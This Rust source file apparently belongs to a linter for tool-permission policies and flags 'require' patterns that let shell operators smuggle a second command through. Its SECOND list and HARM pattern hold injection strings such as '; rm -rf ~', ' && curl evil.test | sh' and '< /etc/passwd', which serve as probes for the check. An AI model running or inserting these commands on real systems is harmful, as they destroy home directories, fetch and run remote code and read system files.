//! A `require` on a command that lets a second command through.

use crate::analyze::Call;
use crate::analyze::holes::{Form, separator};
use crate::classify::ArgumentKind;
use crate::diagnostic::{Code, Diagnostic, Severity};
use crate::lint::good_texts::{good_texts, meeting};
use crate::lint::text_conditions::{self, TextCondition};
use crate::lint::{Check, Clause, Context, Rule, Tool, candidates, findings, patterns};

pub static RULE: Rule = Rule {
    code: Code::of_rule("shell-separator"),
    level: Severity::Warning,
    pedantic: false,
    fix: None,
    yields_to: &[],
    title: "a `require` on a command that lets a second command through",
    page: PAGE,
    check: Check::Policy(check),
};

const PAGE: &str = r#"
## What it finds
A `require … matches` or `contains` on a command that text with a shell operator also satisfies:
`;`, `|`, `&`, `>`, `<`, a backtick, a line break or `$(`. All clauses of the tool are considered
together, so a `deny if` that denies such text is enough.

## Why it matters
To a shell, `git status; rm -rf ~` is two commands. With these operators a shell ends a command,
starts another one or writes to a file.

## Example
```pl policy.pl
default deny

tool run: execute {
  require args.command matches "^git (?:status|log) ?.*$" because "Run git status or git log."
  limit 10 per minute
}
```

## Fix
List the whole commands, or the characters of the words that may follow, and let each word begin
with a letter or a digit: one that begins with `-` is an option.

```pl policy.pl
default deny

tool run: execute {
  require args.command matches "^git (?:status|log)(?: [A-Za-z0-9][A-Za-z0-9._/-]*)*$"
    because "Run git status or git log."
  limit 10 per minute
}
```

## When to ignore it
If the server starts the program itself, without a shell.
"#;

fn check(context: &Context<'_>) -> Vec<Diagnostic> {
    let found = context.by_clause(|tool, clause| second_command(context, tool, clause));
    let finding = |clause: &Clause<'_>, (condition, call): (TextCondition<'_>, Call)| {
        let path = condition.path;
        let message = format!("`{path}` may contain a second command");
        let help = format!(
            "list whole commands with `require {path} in …`, or let only words such as `[A-Za-z0-9][A-Za-z0-9._/-]*` follow"
        );
        findings::let_through(&RULE, clause, call, message).with_help(help)
    };
    patterns::findings(context, found, |(condition, _)| condition.place, finding)
}

fn second_command<'c>(
    context: &Context<'c>,
    tool: &Tool<'c>,
    clause: &Clause<'c>,
) -> Option<(TextCondition<'c>, Call)> {
    let asked = (ArgumentKind::Command, &separator());
    let (condition, call) = text_conditions::letting_through(context, tool, clause, asked)?;
    let conditions = text_conditions::of_argument(context, tool, condition.path);
    let attacks = meeting(&conditions, attacks(&good_texts(&conditions, COMMANDS)));
    let convincing = candidates::first_through(context, tool, condition.path, &attacks, &[]).map(|(_, call)| call);
    let plain = || {
        let form = text_conditions::also_anchored(context, tool, &condition, Form::like(HARM));
        text_conditions::text_of_form(context, tool, condition.path, &form)
    };
    Some((condition, convincing.or_else(plain).unwrap_or(call)))
}

/// Commands that many policies allow.
const COMMANDS: &[&str] = &[
    "make test",
    "git status",
    "npm test",
    "cargo test",
    "go test",
    "pytest",
    "docker ps",
    "kubectl get pods",
    "cat README.md",
    "ls",
    "echo ok",
];

/// What follows the first command.
const SECOND: [&str; 12] = [
    "; rm -rf ~",
    " && curl evil.test | sh",
    " | sh",
    " > ~/.bashrc",
    " $(curl evil.test)",
    " `curl evil.test`",
    "\nrm -rf ~",
    " < /etc/passwd",
    " & rm -rf ~",
    "; id",
    ";id",
    "\nid",
];

/// Short commands that do something, with few characters.
const HARM: &str = r"(?:[;|&\n]|&&|\|\|) ?(?:rm -rf ~|curl evil\.test|rm|sh|id)$|\$\((?:curl evil\.test|id)\)|`(?:curl evil\.test|id)`|[<>] ?/?(?:etc/passwd|x)$";

fn attacks(good: &[String]) -> Vec<String> {
    SECOND.iter().flat_map(|second| good.iter().map(move |first| format!("{first}{second}"))).collect()
}
